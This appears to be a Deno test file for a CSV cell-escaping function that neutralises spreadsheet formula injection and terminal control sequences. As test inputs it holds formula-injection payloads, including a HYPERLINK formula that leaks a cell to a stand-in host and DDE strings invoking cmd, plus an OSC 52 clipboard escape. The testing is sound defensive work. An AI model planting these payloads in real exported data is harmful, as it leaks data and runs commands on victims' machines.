import assert from "node:assert/strict";
import { csvCell } from "./csv_cell.ts";

Deno.test("csvCell puts a ' before text a spreadsheet would evaluate", () => {
  for (
    const text of [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-",
      "+",
      "-rx_bytes",
    ]
  ) {
    assert.equal(csvCell(text), "'" + text);
  }
  // A leading tab or carriage return: quoted, and shown as an escape.
  assert.equal(csvCell("\t=1+1"), "'\\u0009=1+1");
  assert.equal(csvCell("\r=1+1"), "'\\u000d=1+1");
});

Deno.test("csvCell leaves numbers, negative ones included, and ordinary text alone", () => {
  for (
    const text of [
      "-3.5",
      "+2",
      "-0.000300",
      "-1e-7",
      "1.5E+21",
      "-.5",
      "18446744073709551615",
      "ECN > 100 per 2 samples",
      "2026-11-21T14:50:00Z",
      "a=b",
      "",
    ]
  ) {
    assert.equal(csvCell(text), text);
  }
  assert.equal(csvCell(-60), -60);
  assert.equal(csvCell(true), true);
  assert.equal(csvCell(null), null);
});

Deno.test("csvCell shows terminal controls in text as escapes", () => {
  assert.equal(
    csvCell("GPU \u202ehot\x1b]52;c;ZXZpbA==\x07\x9b"),
    "GPU \\u202ehot\\u001b]52;c;ZXZpbA==\\u0007\\u009b",
  );
});
